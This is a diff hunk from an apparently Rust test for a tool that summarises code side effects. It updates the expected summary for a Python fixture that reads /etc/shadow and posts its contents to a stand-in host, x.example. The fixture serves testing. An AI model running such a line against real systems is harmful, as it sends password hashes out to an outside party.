@@ -233,7 +233,7 @@ fn files_connections_and_statements_are_effects() {
         (
             "python",
             "import requests\nrequests.post('http://x.example', data={'a': open('/etc/shadow').read()})",
-            "send http://x.example: ${a list}",
+            "send http://x.example: {\"a\":\"${/etc/shadow}\"}",
         ),
         (
             "python",
